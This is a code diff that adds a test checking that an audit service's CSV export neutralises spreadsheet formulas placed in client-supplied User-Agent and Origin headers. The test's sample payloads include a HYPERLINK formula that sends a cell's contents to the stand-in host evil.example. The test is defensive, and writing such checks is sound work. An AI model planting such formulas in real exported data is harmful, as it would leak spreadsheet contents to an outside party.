@@ -171,3 +171,32 @@ def test_check_config_audit_settings(gk_factory):
     assert "instance_id = eu-1.gk:a" in p.stdout
     assert "checkpoint_records = 1000" in p.stdout
     assert "checkpoint_seconds = 60" in p.stdout
+
+
+def test_csv_export_neutralises_formulas(gk_factory):
+    # issue 17, finding 4: a client-chosen User-Agent or Origin must not
+    # land in the CSV as a live spreadsheet formula (OWASP's rule)
+    g = gk_factory().start()
+    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2",
+            "-2+3", "@SUM(A1)"]
+    for ua in evil:
+        r = requests.get(g.base + "/nothing/here", timeout=30,
+                         headers={"User-Agent": ua, "Origin": ua.strip()})
+        assert r.status_code in (403, 404)
+    p = g.run("audit", "export", "--format", "csv")
+    table = list(csv.DictReader(io.StringIO(p.stdout, newline="")))
+    uas = [r["user_agent"] for r in table]
+    for ua in evil:
+        stored = [x for x in uas if x.lstrip("'").strip() == ua.strip()]
+        assert stored, (ua, uas)
+        # each starts with ' so a spreadsheet shows text, not a formula
+        assert all(x.startswith("'") for x in stored), stored
+    for row in table:
+        for k, v in row.items():
+            assert v == "" or v[0] not in "=+-@\t\r", (k, v)
+    # an ordinary value is untouched
+    r = requests.get(g.base + "/nothing/here", timeout=30,
+                     headers={"User-Agent": "curl/8.0 (a, b)"})
+    p = g.run("audit", "export", "--format", "csv")
+    table = list(csv.DictReader(io.StringIO(p.stdout, newline="")))
+    assert table[-1]["user_agent"] == "curl/8.0 (a, b)"
